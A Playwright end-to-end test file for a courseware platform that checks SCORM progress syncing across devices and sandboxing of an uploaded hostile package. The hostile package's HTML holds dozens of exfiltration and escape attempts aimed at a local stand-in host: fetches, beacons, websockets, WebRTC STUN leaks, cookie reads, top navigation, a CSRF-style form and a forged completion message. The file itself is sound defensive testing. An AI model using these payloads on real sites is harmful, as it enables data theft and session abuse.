/**
 * Packages of other makers. One is begun on a phone, left, gone on with on another device, completed: the ledger follows. Another is
 * hostile and tries whatever a program in a browser can: nothing of the application, of the person or of another package is within its
 * reach, and nothing leaves.
 */
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Browser, devices, expect, type Frame, type Page, test } from '@playwright/test';
import { aPackage, aPackageOf } from '../../src/fixtures/packages.ts';
import { anInstallation, call, type Installation } from './installation.ts';

let installation: Installation;
test.beforeAll(async () => {
  installation = await anInstallation({ flags: ['--demo'] });
});
test.afterAll(() => installation.stop());

async function signedIn(browser: Browser, login: string, phone = false): Promise<Page> {
  const password = new RegExp(`^ {2}${login} +([0-9A-Z-]{14}) `, 'm').exec(installation.printed())![1];
  const context = await browser.newContext({
    ...(phone ? devices['Pixel 7'] : {}),
    locale: 'zh-CN',
    timezoneId: 'Asia/Shanghai',
  });
  const answer = await context.request.post(`${installation.address}/auth/sign-in`, { data: { login, password } });
  expect(answer.ok()).toBe(true);
  return context.newPage();
}

const asks = <Result>(page: Page, name: string, input: object = {}) =>
  call<Result>(installation, page.request, name, input);

async function uploads(page: Page, name: string, bytes: Buffer, title: string): Promise<void> {
  await page.goto(`${installation.address}/training/packages`);
  await page.getByRole('button', { name: '上传课件包', exact: true }).first().click();
  const dialog = page.getByRole('dialog');
  await dialog.locator('input[type=file]').setInputFiles({ name, mimeType: 'application/zip', buffer: bytes });
  await dialog.getByLabel('名称').fill(title);
  await dialog.getByRole('button', { name: /^上\s?传$/ }).click();
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await expect(page.getByRole('cell', { name: title })).toBeVisible();
}

type Mine = { packages: { packageId: number; title: string }[] };
const idOf = async (page: Page, title: string) =>
  (await asks<Mine>(page, 'packages.mine')).packages.find((one) => one.title === title)!.packageId;

const plays = async (page: Page, title: string) => {
  await page.goto(`${installation.address}/mine/training`);
  await page.getByRole('button', { name: title, exact: true }).click();
  return page.frameLocator('iframe.player-frame');
};

for (const [version, from] of [
  ['1.2', 'window'],
  ['2004', 'window.parent'],
] as const)
  test(`SCORM ${version}：手机上学一半，退出，换一台设备从原处继续，学完后台账随之更新`, async ({ browser }) => {
    const title = `身边的防线 ${version}`;
    const officer = await signedIn(browser, 'officer');
    await uploads(officer, 'course.zip', aPackage(version, { title, from }), title);

    const phone = await signedIn(browser, 'member', true);
    const before = await asks<{ hoursThisYear: number }>(phone, 'training.mine');
    const package1 = await plays(phone, title);
    await expect(package1.getByRole('status')).toHaveText('第 1 页，共 3 页；已看 1 页');
    await package1.getByRole('button', { name: '下一页' }).click();
    await expect(package1.getByRole('status')).toHaveText('第 2 页，共 3 页；已看 2 页');
    await expect(phone.getByText('进度已保存。')).toBeVisible();
    await phone.context().close();

    const desk = await signedIn(browser, 'member');
    const package2 = await plays(desk, title);
    await expect(package2.getByRole('status')).toHaveText('第 2 页，共 3 页；已看 2 页');
    await package2.getByRole('button', { name: '下一页' }).click();
    await package2.getByRole('button', { name: '学完' }).click();
    await expect(desk.getByText('已学完，计 2 学时。')).toBeVisible();
    await desk.getByRole('button', { name: '退出，以后继续' }).click();
    await expect(desk.getByText('学完', { exact: false }).first()).toBeVisible();
    const after = await asks<{ hoursThisYear: number }>(desk, 'training.mine');
    expect(after.hoursThisYear).toBe(before.hoursThisYear + 2);

    await officer.goto(`${installation.address}/training/completions`);
    await expect(officer.getByRole('cell', { name: title }).first()).toBeVisible();
    await officer.context().close();
    await desk.context().close();
  });

/** Somebody else's host: whoever reaches it has got out. */
async function anOutsider() {
  const reached: string[] = [];
  const web = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('x');
  });
  web.on('upgrade', (request, socket) => {
    reached.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => web.listen(0, '127.0.0.1', resolve));
  const udp = createSocket('udp4');
  udp.on('message', () => reached.push('udp'));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  return {
    web: `127.0.0.1:${(web.address() as AddressInfo).port}`,
    udp: `127.0.0.1:${udp.address().port}`,
    reached,
    close: () => {
      web.close();
      udp.close();
    },
  };
}

/** Each try is a function that answers what it got; what throws, or is never answered, got nothing. */
const hostile = (
  main: string,
  outsider: { web: string; udp: string },
) => `<!doctype html><html><head><meta charset="utf-8">
<link rel="dns-prefetch" href="http://${outsider.web}/"><link rel="preload" as="image" href="http://${outsider.web}/preload">
<link rel="preconnect" href="http://${outsider.web}/"><link rel="prefetch" href="http://${outsider.web}/prefetch">
<link rel="modulepreload" href="http://${outsider.web}/module"><link rel="manifest" href="http://${outsider.web}/manifest">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://${outsider.web}/speculated"]}]}</script>
<link rel="stylesheet" href="http://${outsider.web}/style.css"><style>@import "http://${outsider.web}/import"; body { background: url(http://${outsider.web}/background) }</style></head><body>
<img src="http://${outsider.web}/image"><iframe name="inner" src="http://${outsider.web}/frame"></iframe>
<iframe name="ours" src="${main}/mine"></iframe><iframe srcdoc='<script>var p=new RTCPeerConnection({iceServers:[{urls:"stun:${outsider.udp}"}]});p.createDataChannel("a");p.createOffer().then((o)=>p.setLocalDescription(o))</script>'></iframe>
<div><template shadowrootmode="closed"><iframe srcdoc='<script>var p=new RTCPeerConnection({iceServers:[{urls:"stun:${outsider.udp}"}]});p.createDataChannel("a");p.createOffer().then((o)=>p.setLocalDescription(o))</script>'></iframe></template></div><object data="http://${outsider.web}/object"></object>
<form id="f" method="post" target="inner" action="http://${outsider.web}/form"><input name="a" value="b"></form>
<form id="g" method="post" target="inner" enctype="text/plain" action="${main}/api/accounts.list"><input name="{}" value=""></form>
<a id="link" href="http://${outsider.web}/link" target="_top">x</a><a id="ping" href="#" ping="http://${outsider.web}/ping">x</a>
<script>
const real = frames.self; const got = {};
const ask = async (name, work) => {
  try {
    const answer = await Promise.race([work(), new Promise((resolve) => setTimeout(() => resolve('nothing in time'), 1500))]);
    got[name] = 'GOT ' + String(answer);
  } catch (reason) { got[name] = 'refused: ' + reason.name; }
};
const image = (url) => new Promise((resolve, reject) => { const it = new Image(); it.onload = () => resolve('loaded'); it.onerror = () => reject(new TypeError('image')); it.src = url; });
(async () => {
  await ask('fetch of our interface', async () => (await fetch('${main}/api/duties.mine', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}' })).status);
  await ask('blind post to our interface', async () => (await fetch('${main}/api/packages.remember', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' })).type);
  await ask('our state', async () => (await fetch('${main}/auth/state', { credentials: 'include' })).status);
  await ask('xhr', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open('GET', '${main}/auth/state'); x.withCredentials = true; x.onload = () => resolve(x.status); x.onerror = () => reject(new TypeError('xhr')); x.send(); }));
  await ask('beacon to us', async () => { if (!navigator.sendBeacon('${main}/api/x', '{}')) throw new TypeError('beacon'); return 'queued'; });
  await ask('beacon out', async () => { if (!navigator.sendBeacon('http://${outsider.web}/beacon', 'x')) throw new TypeError('beacon'); return 'queued'; });
  await ask('fetch out', async () => (await fetch('http://${outsider.web}/fetch', { mode: 'no-cors' })).type);
  await ask('image out', () => image('http://${outsider.web}/image2'));
  await ask('picture of ours', () => image('${main}/icon.svg'));
  await ask('script out', () => import('http://${outsider.web}/module.js'));
  await ask('script of ours', () => import('${main}/assets/x.js'));
  await ask('websocket out', () => new Promise((resolve, reject) => { const s = new WebSocket('ws://${outsider.web}/socket'); s.onopen = () => resolve('open'); s.onerror = () => reject(new TypeError('socket')); }));
  await ask('event source', () => new Promise((resolve, reject) => { const s = new EventSource('http://${outsider.web}/events'); s.onopen = () => resolve('open'); s.onerror = () => reject(new TypeError('events')); }));
  await ask('top document', async () => top.document.title);
  await ask('top storage', async () => top.localStorage.length);
  await ask('top address', async () => top.location.href);
  await ask('top navigation', async () => { top.location = 'http://${outsider.web}/top'; return 'asked'; });
  await ask('navigation by link', async () => { document.getElementById('link').click(); return 'asked'; });
  await ask('ping', async () => { document.getElementById('ping').click(); return 'asked'; });
  await ask('window', async () => open('http://${outsider.web}/window') ?? (() => { throw new TypeError('window'); })());
  await ask('window of ours', async () => open('${main}/mine') ?? (() => { throw new TypeError('window'); })());
  await ask('form out', async () => { document.getElementById('f').submit(); return 'asked'; });
  await ask('form to us', async () => { document.getElementById('g').submit(); return 'asked'; });
  await ask('cookie read', async () => document.cookie);
  await ask('cookie written', async () => { document.cookie = 'bulwark=mine; path=/'; return document.cookie; });
  await ask('local storage', async () => { localStorage.setItem('a', 'b'); return localStorage.length; });
  await ask('session storage', async () => sessionStorage.length);
  await ask('database', async () => new Promise((resolve, reject) => { const r = indexedDB.open('a'); r.onsuccess = () => resolve('open'); r.onerror = () => reject(r.error); }));
  await ask('caches', async () => (await caches.open('a')).constructor.name);
  await ask('service worker', async () => (await navigator.serviceWorker.register('worker.js')).scope);
  await ask('worker', () => new Promise((resolve, reject) => { const it = new Worker('worker.js'); it.onmessage = () => resolve('runs'); it.onerror = () => reject(new TypeError('worker')); }));
  await ask('camera', async () => (await navigator.mediaDevices.getUserMedia({ video: true })).id);
  await ask('place', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('known'), () => reject(new TypeError('place')))));
  await ask('our page in a frame', async () => ours.document.body.textContent);
  await ask('broadcast', () => new Promise((resolve) => { const c = new BroadcastChannel('a'); c.onmessage = (e) => resolve(e.data); c.postMessage('x'); }));
  await ask('peer', () => new Promise((resolve, reject) => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${outsider.udp}' }] }); p.createDataChannel('a'); p.onicegatheringstatechange = () => p.iceGatheringState === 'complete' && resolve('gathered'); p.createOffer().then((o) => p.setLocalDescription(o), reject); }));
  await ask('peer of a frame of words', async () => { window.words = document.createElement('iframe'); words.srcdoc = '<script>var p=new RTCPeerConnection({iceServers:[{urls:"stun:${outsider.udp}"}]});p.createDataChannel("a");p.createOffer().then((o)=>p.setLocalDescription(o))<\\/script>'; document.body.append(words); return 'asked'; });
  await ask('peer of a frame that is a script', async () => { const it = document.createElement('iframe'); it.src = 'javascript:var p=new RTCPeerConnection({iceServers:[{urls:"stun:${outsider.udp}"}]});p.createDataChannel("a");p.createOffer().then((o)=>p.setLocalDescription(o))'; document.body.append(it); return 'asked'; });
  await ask('peer of a frame apart', async () => { const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' }); const it = document.createElement('iframe'); it.srcdoc = words.srcdoc; root.append(it); return 'asked'; });
  await ask('peer of an empty frame', async () => { const it = document.createElement('iframe'); document.body.append(it); const p = new it.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:${outsider.udp}' }] }); p.createDataChannel('a'); return 'made'; });
  await ask('peer of a drawing', async () => { const it = document.createElement('iframe'); it.src = 'drawing.svg'; document.body.append(it); return 'asked'; });
  await ask('own navigation', async () => { const it = document.createElement('iframe'); document.body.append(it); it.contentWindow.location = 'http://${outsider.web}/inner'; return 'asked'; });
  await ask('a frame without us', async () => { const it = document.createElement('iframe'); it.srcdoc = '<img src="http://${outsider.web}/srcdoc">'; document.body.append(it); return 'asked'; });
  await ask('false message', async () => { top.postMessage({ package: 'remembered', remembered: { status: 'completed', seconds: 'x' } }, '*'); return 'asked'; });
  const out = document.createElement('pre'); out.id = 'got'; out.textContent = JSON.stringify(got); document.body.append(out);
})();
</script></body></html>`;

const drawing = ({ udp }: { udp: string }) => ({
  name: 'drawing.svg',
  content: `<svg xmlns="http://www.w3.org/2000/svg"><script>var p=new RTCPeerConnection({iceServers:[{urls:"stun:${udp}"}]});p.createDataChannel("a");p.createOffer().then((o)=>p.setLocalDescription(o))</script></svg>`,
});

/** What asks and cannot be told from the inside whether it was heard: whether it was, the outsider knows, and we. */
const ASKED_ONLY = [
  ...['beacon to us', 'beacon out', 'top navigation', 'navigation by link', 'ping', 'form out', 'form to us'],
  ...['peer of a frame of words', 'peer of a frame that is a script', 'peer of a frame apart', 'peer of a drawing'],
  ...['own navigation', 'a frame without us', 'false message'],
];

test('一个恶意课件：接触不到系统、本人和其他课件，什么都出不去', async ({ browser }) => {
  test.slow();
  const outsider = await anOutsider();
  const title = '外来课件';
  const officer = await signedIn(browser, 'officer');
  await uploads(
    officer,
    'hostile.zip',
    aPackageOf(hostile(installation.address, outsider), [drawing(outsider)]),
    title,
  );
  const page = await signedIn(browser, 'member');
  const packageId = await idOf(page, title);
  await page.goto(`${installation.address}/mine/training`);
  // What was answered to a frame of the package, whichever; what the browser itself held back was not.
  const answered: string[] = [];
  page.context().on('response', (response) => {
    const request = response.request();
    if (request.isNavigationRequest() || request.frame() !== page.mainFrame()) answered.push(request.url());
  });
  const opened: string[] = [];
  page.context().on('page', (other) => opened.push(other.url()));
  await page.getByRole('button', { name: title, exact: true }).click();
  const got = page.frameLocator('iframe.player-frame').locator('#got');
  await got.waitFor({ state: 'attached', timeout: 60_000 });
  const answers = JSON.parse((await got.textContent())!) as Record<string, string>;

  const told = Object.entries(answers).filter(
    ([name, answer]) => answer.startsWith('GOT') && answer !== 'GOT nothing in time' && !ASKED_ONLY.includes(name),
  );
  expect(told).toEqual([]);
  await page.waitForTimeout(1_000); // whatever is still on its way
  expect(Object.keys(answers).length).toBeGreaterThan(35);
  expect(outsider.reached).toEqual([]);
  expect(opened).toEqual([]);
  expect(page.url()).toBe(`${installation.address}/packages/${packageId}`);
  await expect(page.getByRole('heading', { name: title })).toBeVisible();
  const frame = page.frames().find((one: Frame) => one.url().includes('/p/'))!;
  const packagesOrigin = new URL(frame.url()).origin;
  expect(packagesOrigin).not.toBe(installation.address);
  expect(answered.filter((url) => !url.startsWith(`${packagesOrigin}/`))).toEqual([]);
  expect(answered.length).toBeGreaterThan(0);
  // Its cookie would have been one of ours: there is none, and the person is still signed in.
  expect((await page.context().cookies()).map(({ name }) => name)).not.toContain('mine');
  expect((await asks<Mine>(page, 'packages.mine')).packages.length).toBeGreaterThan(0);
  outsider.close();
});
